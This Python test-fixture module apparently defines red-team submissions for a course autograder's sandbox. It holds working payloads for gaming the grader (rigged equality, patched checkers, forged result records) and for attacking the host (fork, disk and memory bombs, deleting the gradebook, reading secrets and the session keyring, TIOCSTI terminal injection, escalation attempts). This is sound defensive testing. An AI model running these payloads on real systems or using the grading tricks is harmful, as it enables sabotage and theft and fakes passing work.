"""Hostile and broken submissions for the mini course, each with the outcome it must get."""

# Every attacker answers wrongly (or not at all), so any point it earns came from the attack.
# ``{course}`` in code is replaced by the course folder's absolute path and ``{repo}`` by this
# checkout's: a real attacker can guess both, so the tests assume they know them. ``{host}`` is a
# private file of the grader's user outside the course.

from __future__ import annotations

from dataclasses import dataclass, field

WRONG = {
    "q1_answer": "def count_chars(text):\n    return -1",
    "q2_answer": "def top_words(tokens, k):\n    return []",
}


@dataclass
class Case:
    """One submission: extra code cells, answers, planted files, or a raw (broken) file."""

    name: str
    what: str
    cells: list[str] = field(default_factory=list)
    answers: dict[str, str] = field(default_factory=lambda: dict(WRONG))
    files: dict[str, str] = field(default_factory=dict)
    raw: str | None = None
    notebook_name: str = "mini.ipynb"
    edit: str | None = None  # a named edit of the notebook structure, see test_redteam
    links: dict[str, str] = field(default_factory=dict)  # relative path -> link target
    expect_status: str = "graded"
    #: test grade_id -> score it must get (default: every test cell 0)
    expect: dict[str, float] | None = None
    #: a marker its outputs must show (evidence that the attack ran and was contained)
    evidence: str | None = None


CASES = [
    Case(
        "rigged_eq",
        "answers are objects whose __eq__ always returns True",
        answers={
            "q1_answer": (
                "class Yes(int):\n    def __eq__(self, o):\n        return True\n"
                "    __hash__ = int.__hash__\n"
                "def count_chars(text):\n    return Yes(0)"
            ),
            "q2_answer": (
                "class Yes(list):\n    def __eq__(self, o):\n        return True\n"
                "    def __len__(self):\n        return 2\n"
                "def top_words(tokens, k):\n    return Yes()"
            ),
        },
    ),
    Case(
        "patch_checker",
        "replaces Checker.report/expect_* in the kernel to return full marks",
        cells=[
            "import beyond_traffic.grading as g\n"
            "g.Checker.report = lambda self, **k: self.points\n"
            "g.Checker.expect_equal = lambda self, *a, **k: True"
        ],
    ),
    Case(
        "planted_package",
        "ships its own beyond_traffic package whose Checker always gives full marks",
        files={
            "beyond_traffic/__init__.py": "",
            "beyond_traffic/grading.py": (
                "class Checker:\n"
                "    def __init__(self, gid, *, points):\n        self.points = points\n"
                "    def __getattr__(self, name):\n        return lambda *a, **k: True\n"
                "    def report(self, **k):\n        return float(self.points)\n"
            ),
            "json.py": "raise SystemExit('shadowed json')\n",
        },
    ),
    Case(
        "input_transformer",
        "rewrites every later cell to the expression -1 (nbgrader reads a negative grade as full)",
        cells=["ip = get_ipython()\nip.input_transformers_post.append(lambda lines: ['-1\\n'])"],
    ),
    Case(
        "patched_builtins",
        "patches isinstance/type/len/print and the display hook",
        cells=[
            "import builtins, sys\n"
            "builtins.isinstance = lambda *a: True\n"
            "builtins.len = lambda x: 2\n"
            "builtins.print = lambda *a, **k: None\n"
            "sys.displayhook = lambda v: sys.stdout.write('2\\n')"
        ],
    ),
    Case(
        "swallow_errors",
        "installs a custom exception handler and excepthook that hide every error",
        cells=[
            "import sys\n"
            "sys.excepthook = lambda *a: None\n"
            "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"
        ],
    ),
    Case(
        "exit_in_test",
        "calls os._exit inside the answer, killing the kernel during the test cell",
        answers={
            "q1_answer": "import os\ndef count_chars(text):\n    os._exit(0)",
            "q2_answer": WRONG["q2_answer"],
        },
        expect_status="graded",
    ),
    Case(
        "never_returns",
        "ignores SIGINT and loops forever, so the kernel cannot be interrupted",
        cells=[
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
        ],
    ),
    Case(
        "fork_bomb",
        "forks until the system refuses (prints how many it got)",
        cells=[
            "import os, time\nn = 0\nfor _ in range(5000):\n    try:\n"
            "        pid = os.fork()\n    except OSError:\n        break\n"
            "    if pid == 0:\n        time.sleep(60)\n        os._exit(0)\n    n += 1\n"
            "print('FORKED', n)"
        ],
    ),
    Case(
        "huge_output",
        "prints hundreds of megabytes",
        cells=["for _ in range(400):\n    print('流' * 500_000)"],
    ),
    Case(
        "vandal",
        "tries to delete or rewrite the gradebook, solutions, releases and other submissions",
        cells=[
            "import os, shutil, glob\nC = {course!r}\nhits = []\n"
            "for p in [C + '/gradebook.db', C + '/nbgrader_config.py']:\n"
            "    try:\n        os.remove(p); hits.append(p)\n    except Exception as e:\n"
            "        pass\n"
            "for d in ['solutions', 'assignments', 'submitted', 'autograded']:\n"
            "    try:\n        shutil.rmtree(C + '/' + d); hits.append(d)\n"
            "    except Exception:\n        pass\n"
            "for p in glob.glob(C + '/submitted/*/mini/*.ipynb'):\n"
            "    try:\n        open(p, 'w').write('{{}}'); hits.append(p)\n"
            "    except Exception:\n        pass\n"
            "print('VANDAL', hits)"
        ],
    ),
    Case(
        "read_solutions",
        "reads the instructor's notebook and the gradebook to copy answers",
        cells=[
            "C = {course!r}\nleak = ''\n"
            "for p in [C + '/solutions/mini/mini.ipynb', C + '/gradebook.db',\n"
            "          C + '/submitted/alice/mini/mini.ipynb']:\n"
            "    try:\n        leak += open(p, errors='replace').read()\n"
            "    except Exception as e:\n        pass\n"
            "print('LEAKED', len(leak), 'BEGIN SOLUTION' in leak)"
        ],
    ),
    Case(
        "network",
        "opens network connections",
        cells=[
            "import socket\nok = []\n"
            "for host in [('pypi.org', 443), ('1.1.1.1', 53)]:\n"
            "    try:\n        socket.create_connection(host, timeout=3).close(); ok.append(host)\n"
            "    except OSError:\n        pass\n"
            "print('NETWORK', ok)"
        ],
    ),
    Case(
        "forge_observations",
        "writes garbage and fake records into the observations file",
        cells=[
            "import os, json\np = os.environ.get('BEYOND_TRAFFIC_OBSERVATIONS', 'obs')\n"
            "with open(p, 'a') as fh:\n"
            "    fh.write('[' * 100000 + '\\n')\n"
            "    fh.write(json.dumps({{'checker': 't1_count', 'name': 'n', 'tag': 'int',"
            " 'value': ['i', '9' * 5000]}}) + '\\n')\n"
            "    fh.write(json.dumps({{'checker': 't2_top', 'name': 'top',"
            " 'value': 'x'}}) + '\\n')\n"
            "    fh.write('\\x00' * 1000 + '\\n')"
        ],
    ),
    Case(
        "memory_and_disk",
        "allocates huge memory and writes a huge file",
        cells=[
            "try:\n    x = bytearray(20 * 1024**3)\n"
            "except MemoryError:\n    print('MEMORY refused')\n"
            "try:\n    with open('big.bin', 'wb') as fh:\n"
            "        for _ in range(200):\n            fh.write(b'0' * 1024**2)\n"
            "except OSError as e:\n    print('DISK refused', e.errno)"
        ],
    ),
    Case(
        "kill_everything",
        "sends SIGKILL to every process it can and to its parent",
        cells=[
            "import os, signal\nfor target in (-1, os.getppid(), 1):\n    try:\n"
            "        os.kill(target, signal.SIGKILL)\n    except OSError:\n        pass"
        ],
    ),
    Case(
        "edited_tests",
        "rewrites the test cells to return full marks",
        edit="replace_tests",
    ),
    Case(
        "invalid_json", "the notebook file is not JSON", raw='{"cells": [', expect_status="broken"
    ),
    Case(
        "symlinks",
        "submits symbolic links to the instructor's notebook instead of files",
        raw="",
        links={
            "mini.ipynb": "{course}/solutions/mini/mini.ipynb",
            "answers.txt": "{course}/solutions/mini/mini.ipynb",
        },
        expect_status="broken",
    ),
    Case("empty_file", "the notebook file is empty", raw="", expect_status="broken"),
    Case(
        "not_a_notebook",
        "valid JSON but not a notebook",
        raw='{"hello": "流量"}',
        expect_status="broken",
    ),
    Case(
        "renamed",
        "the notebook was renamed",
        notebook_name="mini (1).ipynb",
        expect_status="broken",
    ),
    Case(
        "deleted_test",
        "deletes test cell t1 but answers honestly",
        edit="delete_t1",
        expect={"t1_count": 0.0, "t2_top": 3.0},
    ),
    Case(
        "duplicated_cells",
        "duplicates every cell, answers honestly",
        edit="duplicate",
        expect={"t1_count": 2.0, "t2_top": 3.0},
    ),
]

#: Code that, once run in the kernel, makes every later expect_* call record its expected value
#: as the observation (the attack that scored 15.25/16 on ps1 when whole test cells ran there).
FORGE_EXPECTED = (
    "import os\nfrom beyond_traffic.grading import checker\n"
    "from beyond_traffic.grading.wire import write_record\n"
    "from beyond_traffic.grading.canonical import Observation, canonicalize\n"
    "def forge(self, key, expected=None, *a, **k):\n"
    "    tag, data = canonicalize(expected)\n"
    "    write_record(os.environ['BEYOND_TRAFFIC_OBSERVATIONS'], self.grade_id, key,"
    " Observation(tag=tag, value=data))\n"
    "    return True\n"
    "for name in dir(checker.Checker):\n"
    "    if name.startswith('expect_'):\n"
    "        setattr(checker.Checker, name, forge)"
)
#: Stops the real observations, so a forged record is the only one of its key.
SILENCE_OBSERVE = (
    "from beyond_traffic.grading import checker\n"
    "checker.Checker.observe = lambda self, name, producer: None\n"
)
#: Finds files of other students or of the grader anywhere it can look.
SCAN = (
    "import os, sys\nC = {course!r}\nfound = []\n"
    "mine = (os.environ.get('BEYOND_TRAFFIC_OBSERVATIONS'), sys.prefix, sys.base_prefix)\n"
    "for top in ['/tmp', '/run', '/home', '/var/tmp', '/dev/shm', '/root', '/srv', C,"
    " os.path.dirname(C)]:\n"
    "    for dirpath, dirnames, filenames in os.walk(top):\n"
    "        for f in filenames:\n"
    "            p = os.path.join(dirpath, f)\n"
    "            # the interpreter (and its packages' own docs) is visible by design\n"
    "            if f.endswith(('.ipynb', '.jsonl', '.db', 'spec.json')) and "
    "not p.startswith(mine):\n"
    "                found.append(p)\n"
    "for pid in os.listdir('/proc'):\n"
    "    if pid.isdigit() and int(pid) != os.getpid():\n"
    "        try:\n            found += os.listdir(f'/proc/{{pid}}/root/tmp')\n"
    "        except OSError:\n            pass\n"
    "print('FOUND', sorted(set(found))[:20])"
)

CASES += [
    Case(
        "forge_expected_values",
        "patches Checker so every expect_* records its expected value as the observation",
        cells=[FORGE_EXPECTED],
    ),
    Case(
        "print_everything",
        "prints In, globals, the notebook files, every string in memory and its environment",
        cells=[],
        answers={
            **WRONG,
            "q2_answer": WRONG["q2_answer"]
            + "\nimport gc, glob, os, sys\nprint('IN', In)\nprint('GLOBALS', list(globals()))\n"
            "for p in glob.glob('**/*.ipynb', recursive=True) + glob.glob('/run/**/*', "
            "recursive=True):\n    try:\n        print(open(p, errors='replace').read())\n"
            "    except Exception:\n        pass\n"
            "print([o for o in gc.get_objects() if isinstance(o, str) and 'CANARY' in o])\n"
            "print(open('/proc/self/environ', errors='replace').read())",
        },
        evidence="IN [",
    ),
    Case(
        "print_notebook_after_tests",
        "a last extra cell prints In and the notebooks, after every test cell has run",
        edit="append_cell",
        cells=[
            "import glob\nprint('AFTER', In)\n"
            "for p in glob.glob('/**/*.ipynb', recursive=True):\n"
            "    print(open(p, errors='replace').read()[:100000])"
        ],
        evidence="AFTER [",
    ),
    Case(
        "scan_for_neighbours",
        "walks every folder it can see for other students' notebooks and observations",
        cells=[SCAN],
        evidence="FOUND []",
    ),
    Case(
        "read_later_folders",
        "reads autograded/ and .beyond_traffic/, which appear in the course during the run",
        cells=[
            "import os, time\nC = {course!r}\ntime.sleep(3)\n"
            "print('LATER', [p for p in ['autograded', '.beyond_traffic', 'reports', 'submitted',"
            " 'gradebook.db'] if os.path.exists(os.path.join(C, p))])"
        ],
        evidence="LATER []",
    ),
    Case(
        "read_host",
        "reads the checkout's solutions/ beside the installed package and private host files",
        cells=[
            "import os, beyond_traffic\nseen = []\n"
            "for p in [{repo!r} + '/solutions', os.path.join(os.path.dirname("
            "os.path.dirname(os.path.dirname(beyond_traffic.__file__))), 'solutions'), {host!r},"
            " '/etc/shadow', '/root/.cache', '/root/.bash_history', '/home/bt-nonroot']:\n"
            "    if os.path.exists(p):\n        seen.append(p)\n"
            "print('HOST', seen)"
        ],
        evidence="HOST []",
    ),
    Case(
        "swap_folders",
        "tries to replace the observations file and the grader's mounts with links",
        cells=[
            "import os\ndone = []\n"
            "for p in [os.environ['BEYOND_TRAFFIC_OBSERVATIONS'], '/run/bt/stage', '/run/bt',"
            " '/home/student', '/tmp']:\n"
            "    try:\n        os.rename(p, p + '.old'); done.append(p)\n    except OSError:\n"
            "        pass\n"
            "    try:\n        os.symlink('/etc', p + '.link'); done.append(p + '.link')\n"
            "    except OSError:\n        pass\n"
            "print('SWAPPED', done)"
        ],
        evidence="SWAPPED []",
    ),
    Case(
        "planted_ipython_config",
        "ships ipython_config.py and ipython_kernel_config.py that run code at kernel start",
        files={
            "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['print(\"CONFIG RAN\")']\n",
            "ipython_kernel_config.py": "c.IPKernelApp.exec_lines = ['print(\"CONFIG RAN\")']\n",
            ".ipython/profile_default/startup/00.py": "print('STARTUP RAN')\n",
        },
    ),
    Case(
        "planted_site_files",
        "ships sitecustomize.py, usercustomize.py and a .pth file that patch the Checker",
        files={
            "sitecustomize.py": "import builtins; builtins.HACKED = 1\n",
            "usercustomize.py": "import builtins; builtins.HACKED = 1\n",
            "zz_evil.pth": "import os; os.environ['HACKED'] = '1'\n",
        },
    ),
    Case(
        "kernelspec_trick",
        "names its own kernel in the notebook and ships a kernel.json running another program",
        edit="kernelspec",
        files={
            "kernels/evil/kernel.json": '{"argv": ["/bin/sh", "-c", "echo pwned"], '
            '"display_name": "evil", "language": "python"}'
        },
    ),
    Case(
        "cell_metadata_trick",
        "adds its own cell marked as test cell t1_count (locked, 2 points) whose value is 2.0",
        edit="fake_test_cell",
    ),
    Case(
        "skip_tags",
        "tags the test cells skip-execution and raises-exception",
        edit="skip_tags",
    ),
    Case(
        "daemon",
        "starts a double-forked daemon that outlives its kernel and forges records later",
        cells=[
            "import os, time, json\np = os.environ['BEYOND_TRAFFIC_OBSERVATIONS']\n"
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        for _ in range(120):\n            time.sleep(1)\n"
            "            try:\n                open(p, 'a').write('{{}}\\n')\n"
            "            except OSError:\n                pass\n"
            "        os._exit(0)\n    os._exit(0)\nprint('DAEMON started')"
        ],
        evidence="DAEMON started",
    ),
    Case(
        "hang_in_observation",
        "its answer ignores SIGINT and loops forever when the test cell calls it",
        answers={
            "q1_answer": "import signal\ndef count_chars(text):\n"
            "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass",
            "q2_answer": WRONG["q2_answer"],
        },
    ),
    Case(
        "rebind_builtins",
        "rebinds len, sorted and isinstance in builtins (once took 630 s to grade)",
        cells=[
            "import builtins\nbuiltins.len = lambda x: 0\nbuiltins.sorted = lambda *a, **k: []\n"
            "builtins.isinstance = lambda *a: False"
        ],
    ),
    Case(
        "collision_bomb",
        "records 100k dict keys that share one hash (replay decoding was quadratic)",
        cells=[
            SILENCE_OBSERVE + "import os, json\nm = 2**61 - 1\n"
            "pairs = [[['i', str(7 + i * m)], ['n']] for i in range(100000)]\n"
            "h = json.dumps({{'checker': 't1_count', 'name': 'n', 'tag': 'dict'}})\n"
            "with open(os.environ['BEYOND_TRAFFIC_OBSERVATIONS'], 'a') as fh:\n"
            "    fh.write(h + '\\t' + json.dumps(['d', pairs]) + '\\n')"
        ],
    ),
    Case(
        "empty_list_bomb",
        "fills the observations file with 60 MB of empty lists (once took 1.7 GB to read)",
        cells=[
            SILENCE_OBSERVE + "import os, json\n"
            "h = json.dumps({{'checker': 't2_top', 'name': 'top', 'tag': 'list'}})\n"
            "with open(os.environ['BEYOND_TRAFFIC_OBSERVATIONS'], 'a') as fh:\n"
            "    fh.write(h + '\\t[\"l\", [' + ','.join(['[]'] * 20_000_000) + ']]\\n')"
        ],
    ),
    Case(
        "repeated_records",
        "writes its own record for every key before the test cells write theirs",
        cells=[
            "import os\nfrom beyond_traffic.grading.wire import write_record\n"
            "from beyond_traffic.grading.canonical import Observation\n"
            "p = os.environ['BEYOND_TRAFFIC_OBSERVATIONS']\n"
            "for gid, key, v in [('t1_count', 'n', 4), ('t1_count', 'n2', 6),"
            " ('t2_top', 'top', ['流量', '平台'])]:\n"
            "    write_record(p, gid, key, Observation(tag=type(v).__name__, value=v))"
        ],
    ),
    Case(
        "rewrite_observations_last",
        "truncates the observations file after the tests and writes one record per key",
        edit="append_cell",
        # The forged list has two strings of the wrong words: it passes the length gate, which
        # earns nothing, exactly what typing it would earn.
        expect={"t1_count": 0.0, "t2_top": 0.0},
        cells=[
            "import os\nfrom beyond_traffic.grading.wire import write_record\n"
            "from beyond_traffic.grading.canonical import Observation\n"
            "p = os.environ['BEYOND_TRAFFIC_OBSERVATIONS']\nopen(p, 'w').close()\n"
            "for gid, key, v in [('t1_count', 'n', 5), ('t1_count', 'n2', 5),"
            " ('t2_top', 'top', ['错', '错'])]:\n"
            "    write_record(p, gid, key, Observation(tag=type(v).__name__, value=v))"
        ],
    ),
    Case(
        "disk_bomb",
        "writes 1 MB files until the disk is full, in its folder, /tmp and /dev/shm",
        cells=[
            "import os\nn = 0\nfor d in ['.', '/tmp', '/dev/shm']:\n"
            "    for i in range(2000):\n        try:\n"
            "            with open(f'{{d}}/fill{{i}}.bin', 'wb') as fh:\n"
            "                fh.write(b'0' * 1024**2)\n            n += 1\n"
            "        except OSError:\n            break\nprint('FILLED', n)"
        ],
        evidence="FILLED",
    ),
    Case(
        "memory_bomb_children",
        "forks 8 children that each fill 1.5 GB of memory",
        cells=[
            "import os, time\nkids = []\nfor _ in range(8):\n    pid = os.fork()\n"
            "    if pid == 0:\n        try:\n            b = bytearray(1536 * 1024**2)\n"
            "            time.sleep(5)\n        finally:\n            os._exit(0)\n"
            "    kids.append(pid)\nfor k in kids:\n    os.waitpid(k, 0)\nprint('CHILDREN done')"
        ],
    ),
    Case(
        "escalate",
        "tries to become root and to write system files",
        cells=[
            "import os, subprocess\ngot = []\n"
            "for f in (lambda: os.setuid(0), lambda: os.chroot('/'),"
            " lambda: open('/etc/passwd', 'a').write('x'), lambda: open('/usr/x', 'w')):\n"
            "    try:\n        f(); got.append('yes')\n    except Exception:\n        pass\n"
            "for cmd in (['su', '-c', 'id'], ['sudo', 'id'],"
            " ['mount', '-t', 'tmpfs', 'x', '/tmp']):\n"
            "    try:\n        r = subprocess.run(cmd, capture_output=True, timeout=5)\n"
            "        got += ['yes'] if r.returncode == 0 else []\n    except Exception:\n"
            "        pass\nprint('ROOT', got)"
        ],
        evidence="ROOT []",
    ),
    Case(
        "copycat_a",
        "graded beside copycat_b, keeps looking for copycat_b's files for 10 seconds",
        cells=[
            "import os, time\nfound = []\nfor _ in range(20):\n"
            "    for top in ['/tmp', '/run', '/home', '/proc']:\n"
            "        for dirpath, dirnames, filenames in os.walk(top):\n"
            "            found += [f for f in filenames + dirnames if 'copycat_b' in f]\n"
            "            if dirpath.count('/') > 4:\n                dirnames[:] = []\n"
            "    time.sleep(0.5)\nprint('COPY', found)"
        ],
        evidence="COPY []",
    ),
    Case(
        "copycat_b",
        "graded beside copycat_a, the same search the other way round",
        cells=[
            "import os, time\nfound = []\nfor _ in range(20):\n"
            "    for top in ['/tmp', '/run', '/home', '/proc']:\n"
            "        for dirpath, dirnames, filenames in os.walk(top):\n"
            "            found += [f for f in filenames + dirnames if 'copycat_a' in f]\n"
            "            if dirpath.count('/') > 4:\n                dirnames[:] = []\n"
            "    time.sleep(0.5)\nprint('COPY', found)"
        ],
        evidence="COPY []",
    ),
    Case(
        "huge_notebook",
        "a 60 MB notebook file",
        edit="huge",
        expect_status="broken",
    ),
]

# --------------------------------------------------------------------------- found in review

#: Opens /dev/tty: as root the sandbox kept the grader's session, so /dev/tty is the
#: instructor's terminal. It writes on it and types into it with TIOCSTI (a harmless comment
#: here; a real attacker types a command that the instructor's root shell runs after grading).
TTY = (
    "import os, fcntl, termios\ngot = []\n"
    "try:\n"
    "    fd = os.open('/dev/tty', os.O_RDWR)\n"
    "    got.append('open')\n"
    "    os.write(fd, b'\\r\\n[bt-redteam: the sandbox writes on your terminal]\\r\\n')\n"
    "    got.append('write')\n"
    "    for ch in '# bt-redteam typed this\\n':\n"
    "        fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())\n"
    "    got.append('typed')\n"
    "except OSError:\n"
    "    pass\n"
    "print('TTY', got)"
)
#: Reads every key of the session keyring it inherited (the harness plants one, as a login with
#: pam_keyinit or a Kerberos/AFS/ecryptfs session would). Fresh uids and namespaces do not
#: change the session keyring, and "possessor" permissions do not look at the uid.
KEYRING = (
    "import ctypes, platform\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "nr = {{'x86_64': 250, 'aarch64': 219}}.get(platform.machine())\n"
    "got = []\n"
    "if nr:\n"
    "    buf = ctypes.create_string_buffer(4096)\n"
    "    n = libc.syscall(nr, 11, ctypes.c_long(-3), buf, 4096)  # KEYCTL_READ @s\n"
    "    for i in range(0, max(n, 0), 4):\n"
    "        key = int.from_bytes(buf.raw[i:i + 4], 'little')\n"
    "        val = ctypes.create_string_buffer(4096)\n"
    "        m = libc.syscall(nr, 11, key, val, 4096)\n"
    "        if m > 0:\n"
    "            got.append(val.raw[:m].decode(errors='replace'))\n"
    "print('KEYRING', got)"
)
#: Keeps both cores busy from 96 processes while the sandbox lives (~60 s): a sandbox has no
#: CPU share of its own, so whoever is graded beside it gets about 1/100 of the machine. The
#: children wait on a pipe until the marker is out: forking while earlier children already spin
#: gave the cell 1/97 of its share, and on a busy machine it hit its timeout before printing.
CPU_HOG = (
    "import os, sys, time\n"
    "r, w = os.pipe()\n"
    "for _ in range(96):\n"
    "    if os.fork() == 0:\n"
    "        os.close(w)\n"
    "        os.read(r, 1)\n"
    "        end = time.time() + 60\n"
    "        while time.time() < end:\n"
    "            pass\n"
    "        os._exit(0)\n"
    "print('HOG started')\n"
    "sys.stdout.flush()\n"
    "os.close(w)"
)
#: A correct answer that needs one or two seconds of CPU per call (inside the 20 s timeout).
SLOW_HONEST = {
    "q1_answer": (
        "def count_chars(text):\n    spent = 0\n    for i in range(20_000_000):\n"
        "        spent += i\n    return len(text.replace(' ', ''))"
    ),
    "q2_answer": (
        "from collections import Counter\n\ndef top_words(tokens, k):\n"
        "    return [w for w, _ in Counter(tokens).most_common(k)]"
    ),
}

CASES += [
    Case(
        "terminal_hijack",
        "opens /dev/tty (the instructor's terminal when the grader runs in one), writes on it "
        "and types into it with TIOCSTI; as root the sandbox kept the grader's session",
        cells=[TTY],
        evidence="TTY []",
    ),
    Case(
        "session_keyring",
        "reads the keys of the session keyring it inherited from the grader (the harness plants "
        "one holding KEYRING-SECRET)",
        cells=[KEYRING],
        evidence="KEYRING []",
    ),
    Case(
        "zx_cpu_hog",
        "runs 96 busy processes for 60 s so that the student graded next, beside it "
        "(zy_slow_honest), times out: sandboxes share the CPU without a share of their own",
        cells=[CPU_HOG, *["import time\ntime.sleep(17)"] * 3],
        evidence="HOG started",
    ),
    Case(
        "zy_slow_honest",
        "honest, with answers that need a second or two of CPU each, graded beside zx_cpu_hog",
        answers=SLOW_HONEST,
        expect={"t1_count": 2.0, "t2_top": 3.0},
    ),
    Case(
        "display_update_flood",
        "shows a 1-byte display and replaces it with 15 MB through update_display_data, which "
        "nbclient applies without passing the output caps",
        cells=[
            "from IPython.display import display, update_display\n"
            "display({{'text/plain': 'x'}}, raw=True, display_id='flood')\n"
            "update_display({{'text/plain': '流' * 5_000_000}}, raw=True, display_id='flood')\n"
            "print('FLOOD sent')"
        ],
        evidence="FLOOD sent",
    ),
    Case(
        "escape_in_filename",
        "names its notebook with terminal escape sequences; the grader prints the name in its "
        "summary on the instructor's terminal (title, clear screen, fake text)",
        notebook_name="mini\x1b]0;OWNED\x07\x1b[2J\x1b[31mall grades ok\x1b[0m.ipynb",
        expect_status="broken",
    ),
    Case(
        "bad_timestamp",
        "hands in a timestamp.txt that is not a date (students write it in the exchange): "
        "nbgrader's reader raises AttributeError and the submission ends 'failed', ungraded",
        edit="bad_timestamp",
    ),
]
